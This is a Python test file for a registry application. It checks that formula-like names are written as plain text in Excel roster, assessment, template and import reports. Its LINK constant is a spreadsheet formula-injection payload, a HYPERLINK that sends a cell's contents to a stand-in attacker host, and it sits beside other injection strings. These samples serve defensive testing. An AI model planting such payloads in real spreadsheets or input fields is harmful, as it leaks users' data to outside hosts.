"""Text that looks like a formula never comes back out of an export as one.

A name such as ``=HYPERLINK("http://…"&A2, "…")`` is stored as the text it is; the roster
report, the assessment workbook, the template and the import's annotated copy write it
as a string cell (with Excel's quote prefix), never as a formula.
"""

import io
import re
import zipfile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bangfu.core.calendar import today
from bangfu.core.registry.models import Person, Region
from bangfu.core.roster.columns import RosterColumn, RosterColumns, RosterTarget
from bangfu.core.roster.workbook import template
from bangfu.core.security.models import User
from tests.helpers import XIANGFEN_VILLAGE, World, id_number
from tests.hostile_files import xlsx
from tests.roster_files import HEADERS_ZH, household
from tests.test_assessment import setup
from tests.test_roster_import import upload

pytestmark = pytest.mark.anyio

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"王五")'
RISKY = [LINK, "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)", "=1+1"]


def formulas(content: bytes) -> list[str]:
    """Every formula element (``<f>``) of every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<(?:\w+:)?f[ >/][^<]*", archive.read(name).decode())
        ]


def text_cells(content: bytes) -> dict[Any, Any]:
    """value -> the cell holding it, over every sheet."""
    book = load_workbook(io.BytesIO(content))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def assert_plain_text(content: bytes, values: list[str]) -> None:
    assert formulas(content) == []
    cells = text_cells(content)
    for value in values:
        cell = cells[value]  # the very text, read back
        assert cell.data_type == "s", value
        if value[0] in "=+-@":
            assert cell.quotePrefix, value


async def test_the_roster_and_assessment_workbooks_write_names_as_text(world: World) -> None:
    people = await setup(world)
    h = world.h
    async with h.session() as session, session.begin():
        for person, name in ((people["elder"], LINK), (people["orphan"], "-2+3")):
            await session.execute(update(Person).where(Person.id == person.id).values(name=name))
        await session.execute(
            update(User).where(User.username == "paired-xf").values(display_name="@SUM(A1:A9)")
        )
        await session.execute(
            update(Region).where(Region.code == XIANGFEN_VILLAGE).values(name="=1+1")
        )
    headers = {"Authorization": f"Bearer {world.admin}"}
    roster = await h.client.get("/reports/roster.xlsx?region=141000", headers=headers)
    assert roster.status_code == 200, roster.text
    assert_plain_text(roster.content, [LINK, "-2+3", "@SUM(A1:A9)", "=1+1"])
    year = today().year
    assessment = await h.client.get(
        f"/reports/assessment.xlsx?region=141000&year={year}", headers=headers
    )
    assert assessment.status_code == 200, assessment.text
    assert_plain_text(assessment.content, ["@SUM(A1:A9)"])


async def test_the_annotated_copy_writes_the_file_s_text_as_text(world: World) -> None:
    # Typed as text (a formula would be refused by its cell): inline strings.
    rows = household(XIANGFEN_VILLAGE, (id_number(), LINK))
    for name in RISKY[1:]:
        rows.append([rows[0][0], id_number(), name, "子女", None, None, None])
    rows.append([rows[0][0], "1.41023E+17", "=2+2", "子女", None, None, None])  # a bad row
    response = await upload(world.h, world.xiangfen, xlsx([HEADERS_ZH, *rows]), report="xlsx")
    assert response.status_code == 422
    assert_plain_text(response.content, [*RISKY, "=2+2"])


def test_the_template_writes_plugin_text_as_text(tmp_path: Path) -> None:
    group = RosterColumns(
        RosterTarget.PERSON,
        (RosterColumn("probe_note", "探针", str, description=LINK, example="@SUM(A1:A9)"),),
        write=lambda *_: None,  # type: ignore[arg-type,return-value]
    )
    path = tmp_path / "template.xlsx"
    template([("probe", group)], path)
    content = path.read_bytes()
    assert_plain_text(content, ["@SUM(A1:A9)"])
    assert any(LINK in str(value) for value in text_cells(content))


def test_quote_prefixed_text_reads_back_unchanged() -> None:
    """What the exports write is what was stored, character for character."""
    from openpyxl import Workbook

    from bangfu.core.reports.cells import safe_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    values = [*RISKY, "\tTAB", "\rCR", "普通文本", 12, None]
    sheet.append(safe_row(sheet, values))
    out = BytesIO()
    book.save(out)
    assert formulas(out.getvalue()) == []
    read = next(load_workbook(BytesIO(out.getvalue())).worksheets[0].iter_rows(values_only=True))
    # XML reads a carriage return back as a line feed; a trailing empty cell is not written.
    assert list(read) == [v.replace("\r", "\n") if isinstance(v, str) else v for v in values[:-1]]
